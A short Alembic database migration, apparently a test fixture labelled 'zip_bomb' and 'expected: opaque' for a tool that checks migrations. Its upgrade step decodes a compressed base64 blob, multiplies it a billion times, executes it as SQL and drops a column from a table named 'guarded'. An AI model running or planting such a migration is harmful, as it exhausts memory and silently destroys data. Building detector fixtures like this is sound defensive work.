"""Compressed text that unpacks to gigabytes."""
# expected: opaque
import base64
import zlib

import sqlalchemy as sa
from alembic import op

revision = "zip_bomb"
down_revision = None
TRACE = "@TRACE@"


def upgrade():
    text = zlib.decompress(base64.b64decode('eJztwQEBAAAAgJD+r+4ICgAAABi4AAE=')) * 10**9
    op.execute(text.decode())
    op.drop_column("guarded", "amount")


def downgrade():
    pass
